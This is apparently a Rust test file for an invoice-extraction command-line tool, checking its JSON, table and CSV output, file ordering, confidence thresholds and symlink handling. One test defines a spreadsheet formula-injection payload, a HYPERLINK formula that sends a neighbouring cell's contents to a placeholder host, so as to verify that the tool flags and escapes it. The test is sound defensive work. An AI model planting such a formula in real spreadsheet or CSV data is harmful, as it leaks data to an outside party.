//! What is printed: formats, order, thresholds, targets.

use std::process::Stdio;

use fieldmark_testkit::e_invoices::{CiiProfile, cii};
use serde_json::Value;

use crate::bench::{Bench, invoice, invoice_of_pages, rows};

#[test]
fn a_pipe_gets_json_lines() {
    let bench = Bench::new().with("a.pdf", invoice());
    let rows = rows(&bench.run(&["extract", "a.pdf", "--threshold", "0"]).printed(0));
    let [row] = rows.as_slice() else { panic!("{rows:?}") };
    assert_eq!(row["file"], "a.pdf");
    assert_eq!(row["pages"][0]["number"], 1);
    assert_eq!(row["pages"][0]["source"], "text_layer");
    let sha256 = row["provenance"]["file_sha256"].as_str().unwrap();
    assert!(sha256.len() == 64 && sha256.bytes().all(|byte| byte.is_ascii_hexdigit()));
    assert!(["accept", "review"].contains(&row["decision"].as_str().unwrap()));
    assert_eq!((&row["page_count"], &row["pages"][0]["text"]["verdict"]), (&1.into(), &"good".into()));
    let fields = row["fields"].as_object().unwrap();
    for (name, value) in
        [("invoice_number", "INV-20417"), ("invoice_date", "2024-03-14"), ("total_gross", "1200.00")]
    {
        assert_eq!(fields[name]["value"], value, "{fields:?}");
    }
    for (name, field) in fields {
        let confidence = field["confidence"].as_f64().unwrap();
        assert!((0.0..=1.0).contains(&confidence), "{name}: {field}");
        assert!(field["value"].is_string() && field["checks"].is_array(), "{name}: {field}");
        assert!(field.get("candidates").is_none(), "{name}: {field}");
    }
}

#[test]
fn json_is_one_array_in_the_order_of_the_files_whatever_the_jobs() {
    let bench = (0..6).fold(Bench::new(), |bench, index| {
        bench.with(&format!("in/{index}.pdf"), invoice_of_pages(1 + 3 * (index % 2)))
    });
    let printed = bench.run(&["extract", "in", "--format", "json", "--jobs", "3"]).printed(0);
    let array: Vec<Value> = serde_json::from_str(&printed).unwrap();
    let files: Vec<&str> = array.iter().map(|row| row["file"].as_str().unwrap()).collect();
    assert_eq!(files, ["in/0.pdf", "in/1.pdf", "in/2.pdf", "in/3.pdf", "in/4.pdf", "in/5.pdf"]);
    let pages: Vec<usize> = array.iter().map(|row| row["pages"].as_array().unwrap().len()).collect();
    assert_eq!(pages, [1, 4, 1, 4, 1, 4]);
}

#[test]
fn a_table_has_a_heading_per_file_and_a_summary_and_no_colours_in_a_pipe() {
    let bench = Bench::new().with("a.pdf", invoice()).with("b.pdf", "no invoice");
    let printed = bench.run(&["extract", "a.pdf", "b.pdf", "--format", "table"]).printed(1);
    assert!(printed.starts_with("a.pdf  1 page"), "{printed}");
    assert!(printed.contains("\nb.pdf\n  ✗ unsupported_media_type: "), "{printed}");
    assert!(printed.contains("1 read, 1 failed, "), "{printed}");
    assert!(!printed.contains('\u{1b}'), "{printed}");
}

#[test]
fn csv_goes_to_a_file_if_asked() {
    let bench = Bench::new().with("a.pdf", invoice()).with("b.pdf", "");
    let arguments = ["extract", "a.pdf", "b.pdf", "--format", "csv", "--output", "out.csv"];
    assert_eq!(bench.run(&arguments).printed(1), "");
    let written = std::fs::read_to_string(bench.at("out.csv")).unwrap();
    let lines: Vec<&str> = written.lines().collect();
    assert_eq!(lines.len(), 3);
    assert!(lines[0].starts_with("file,invoice_number,invoice_date,") && lines[0].ends_with(",error"));
    assert!(lines[1].starts_with("a.pdf,"));
    assert!(lines[2].starts_with("b.pdf,") && lines[2].ends_with(",document_empty"));
}

#[test]
fn a_folder_gives_its_pdfs_and_nothing_else() {
    let bench = Bench::new()
        .with("in/z.pdf", invoice())
        .with("in/deep/a.PDF", invoice())
        .with("in/without_extension", invoice())
        .with("in/notes.txt", "not to be read");
    let rows = rows(&bench.run(&["extract", "in"]).printed(0));
    let files: Vec<&str> = rows.iter().map(|row| row["file"].as_str().unwrap()).collect();
    assert_eq!(files, ["in/deep/a.PDF", "in/without_extension", "in/z.pdf"]);
}

#[test]
fn the_threshold_decides_what_is_given() {
    let bench = Bench::new().with("a.pdf", invoice());
    let fields = |arguments: &[&str]| {
        let rows = rows(&bench.run(arguments).printed(0));
        rows[0]["fields"].as_object().unwrap().clone()
    };
    let everything = fields(&["extract", "a.pdf", "--threshold", "0"]);
    let sure = fields(&["extract", "a.pdf", "--threshold", "0.5"]);
    assert!(everything.len() >= sure.len() && !everything.is_empty());
    assert!(sure.values().all(|field| field["confidence"].as_f64().unwrap() >= 0.5));
    // No reader is ever that sure.
    assert!(fields(&["extract", "a.pdf", "--threshold", "1"]).is_empty());
}

#[test]
fn candidates_come_when_they_are_asked_for() {
    let bench = Bench::new().with("a.pdf", invoice());
    let printed = bench.run(&["extract", "a.pdf", "--threshold", "0", "--candidates", "--no-xml"]).printed(0);
    let rows = rows(&printed);
    for field in rows[0]["fields"].as_object().unwrap().values().filter(|field| field["source"] != "derived")
    {
        let candidates = field["candidates"].as_array().unwrap();
        assert!(candidates.iter().any(|candidate| candidate["value"] == field["value"]), "{field}");
    }
}

#[test]
fn who_reads_no_further_is_no_error() {
    let files: Vec<String> = (0..8).map(|index| format!("{index}.pdf")).collect();
    let bench = files.iter().fold(Bench::new(), |bench, file| bench.with(file, invoice()));
    let mut command = bench.command(&["extract", "."]);
    let mut child = command.stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
    drop(child.stdout.take());
    let output = child.wait_with_output().unwrap();
    assert_eq!(output.status.code(), Some(0));
    assert_eq!(String::from_utf8(output.stderr).unwrap(), "");
}

/// A supplier's name that sends the row beside it away when a spreadsheet calculates it.
const FORMULA: &str = "=HYPERLINK(\"http://a.example/?\"&amp;A1;\"Invoice\")";

#[test]
fn a_suppliers_formula_is_text_in_csv_and_to_be_reviewed() {
    let xml = cii(CiiProfile::En16931).replace("Werkzeug Muster GmbH", FORMULA);
    let bench = Bench::new().with("a.xml", xml);
    let row = &rows(&bench.run(&["extract", "a.xml"]).printed(0))[0];
    let formula = FORMULA.replace("&amp;", "&");
    assert_eq!(row["fields"]["supplier_name"]["value"], formula.as_str());
    let check = &row["fields"]["supplier_name"]["checks"][0];
    assert_eq!((&check["name"], &check["passed"]), (&"not_a_formula".into(), &false.into()), "{row}");
    assert_eq!(row["decision"], "review");
    let quoted = formula.replace('"', "\"\"");
    let csv = bench.run(&["extract", "a.xml", "--format", "csv"]).printed(0);
    assert!(csv.contains(&format!("\"'{quoted}\"")) && csv.contains(",526.30,"), "{csv}");
    let raw = bench.run(&["extract", "a.xml", "--format", "csv", "--raw"]).printed(0);
    assert!(raw.contains(&format!("\"{quoted}\"")), "{raw}");
}

#[test]
#[cfg(unix)]
fn a_folder_tells_of_its_links_that_lead_nowhere() {
    let bench = Bench::new().with("in/a.pdf", invoice());
    std::os::unix::fs::symlink("gone.pdf", bench.at("in/b.pdf")).unwrap();
    std::os::unix::fs::symlink("..", bench.at("in/again")).unwrap();
    let rows = rows(&bench.run(&["extract", "in"]).printed(1));
    assert_eq!(rows.len(), 2, "{rows:?}");
    assert_eq!((&rows[1]["file"], &rows[1]["error"]["code"]), (&"in/b.pdf".into(), &"file_not_found".into()));
    assert_eq!(rows[1]["error"]["message"], "the link leads to gone.pdf, which is not there");
}
